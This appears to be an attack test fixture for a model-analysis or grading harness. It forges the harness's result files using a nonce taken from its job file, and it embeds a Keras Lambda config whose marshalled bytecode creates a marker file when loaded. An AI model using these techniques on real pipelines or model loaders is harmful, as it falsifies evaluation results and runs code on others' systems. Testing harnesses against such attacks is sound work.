print("nothing to see")
# --- attack
import codecs
import json
import marshal
import os
import pathlib

out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
job = out.parent / "job.json"
nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
for name in ("run.json", "models.json"):
    (out / name).unlink(missing_ok=True)



def code(expression):
    """Of a function of one argument, as Keras writes it down."""
    function = eval(f"lambda x: [{expression}, x][1]")
    return codecs.encode(marshal.dumps(function.__code__), "base64").decode("ascii")


LAMBDA = {"class_name": "__lambda__", "config": {"code": code("open('@MARKER@', 'w').close()"), "defaults": None, "closure": None}}

TENSOR = {"class_name": "__keras_tensor__", "config": {"shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}
CONFIG = {
    "name": "model", "trainable": True,
    "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "x", "inbound_nodes": [],
         "config": {"batch_shape": [None, 1], "dtype": "float32", "sparse": False, "name": "x"}},
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "evil",
         "config": {"name": "evil", "function": LAMBDA}, "inbound_nodes": [{"args": [TENSOR], "kwargs": {}}]},
    ],
    "input_layers": [["x", 0, 0]], "output_layers": [["evil", 0, 0]],
}
PLACE = {"cell": None, "line": 1, "file": "attack.py"}
MODEL = {"index": 0, "kind": "functional", "class_name": "Functional", "variables": ["model"], "function": "",
         "returned": False, "location": PLACE, "marks": [], "config": CONFIG, "config_error": "", "compiles": [],
         "fits": [], "layer_locations": {}, "unused": []}
MODELS = {"nonce": nonce, "versions": {}, "problem": "", "calling": "", "models": [MODEL], "notes": [], "failures": [],
          "function_failures": {}, "omitted": 0}

(out / "run.json").write_text(json.dumps(RUN))
(out / "models.json").write_text(json.dumps(MODELS))
os._exit(0)
# --- honest
